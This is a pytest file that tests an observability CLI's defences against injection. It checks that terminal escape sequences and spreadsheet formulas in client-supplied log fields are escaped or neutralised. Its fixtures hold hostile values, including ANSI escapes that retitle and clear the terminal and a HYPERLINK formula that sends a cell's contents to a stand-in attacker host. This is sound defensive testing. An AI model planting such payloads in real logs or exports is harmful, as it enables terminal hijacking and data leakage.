"""A client's strings in the event log (model, request id) never drive the operator's terminal
or a spreadsheet: `query slowest/budget/show` escape control characters, CSV neutralises
formulas."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from obs.cli import main
from obs.query.table import printable
from obs.query.testing import event, ts, write_jsonl

pytestmark = pytest.mark.inproc

ESC = "\x1b]0;pwned\x07\x1b[2J\x1b[31m"  # set the title, clear the screen, turn red
HOSTILE_MODEL = f"{ESC}model\x9b1m\r\x08"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def hostile_log(tmp_path: Path) -> Path:
    events = [
        event(
            request_id=f"{ESC}req-{i}",
            model=HOSTILE_MODEL if i % 2 else FORMULA,
            lane="chat",
            ts=ts(i),
            queue_ms=1.0,
            prefill_ms=100.0 + i,
            first_token_ms=5.0,
            decode_ms=50.0,
            stream_ms=1.0,
            status="error" if i % 3 == 0 else "ok",
            error_class="upstream_status" if i % 3 == 0 else None,
        )
        for i in range(30)
    ]
    return write_jsonl(tmp_path / "events.jsonl", events)


def _no_controls(text: str) -> None:
    bad = [c for c in text if (ord(c) < 0x20 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F]
    assert not bad, f"raw control characters reached the terminal: {bad[:5]!r}"


@pytest.mark.parametrize(
    "argv",
    [
        ["slowest", "--by", "ttft", "-n", "10"],
        ["slowest", "--by", "ttft", "-n", "10", "--format", "markdown"],
        ["slowest", "--by", "ttft", "-n", "10", "--format", "csv"],
        ["budget"],
        ["summary", "--by", "model"],
    ],
)
def test_query_output_escapes_client_control_characters(hostile_log, capsys, argv) -> None:
    """No ESC, BEL, CR, backspace or C1 control from a client's string reaches stdout raw."""
    assert main(["query", argv[0], str(hostile_log), *argv[1:], "--no-progress"]) == 0
    out = capsys.readouterr().out
    _no_controls(out)
    assert "\\x1b" in out or argv[0] == "budget"  # shown escaped, not dropped


def test_show_escapes_the_request_id_and_model(hostile_log, capsys) -> None:
    """`query show` prints the event's hostile strings escaped, and still finds the request."""
    rid = f"{ESC}req-1"
    assert main(["query", "show", rid, str(hostile_log), "--no-progress"]) == 0
    out = capsys.readouterr().out
    _no_controls(out)
    assert printable(HOSTILE_MODEL) in out


def test_csv_export_neutralises_formulas(hostile_log, capsys) -> None:
    """A model string that starts with `=` is exported as text (a leading quote), not a formula."""
    assert main(["query", "slowest", str(hostile_log), "-n", "30", "--format", "csv",
                 "--no-progress"]) == 0  # fmt: skip
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    models = {r["model"] for r in rows}
    assert "'" + FORMULA in models
    assert not any(m.startswith(("=", "+", "-", "@")) for m in models)


def test_printable_keeps_ordinary_text() -> None:
    """Letters, punctuation and non-Latin text pass through unchanged; controls become escapes."""
    assert printable("llama-3.1 8B · 日本語 ¹") == "llama-3.1 8B · 日本語 ¹"
    assert printable("a\x1b[2Jb\n") == "a\\x1b[2Jb\\x0a"
    assert printable("a\nb\tc", keep="\n\t") == "a\nb\tc"
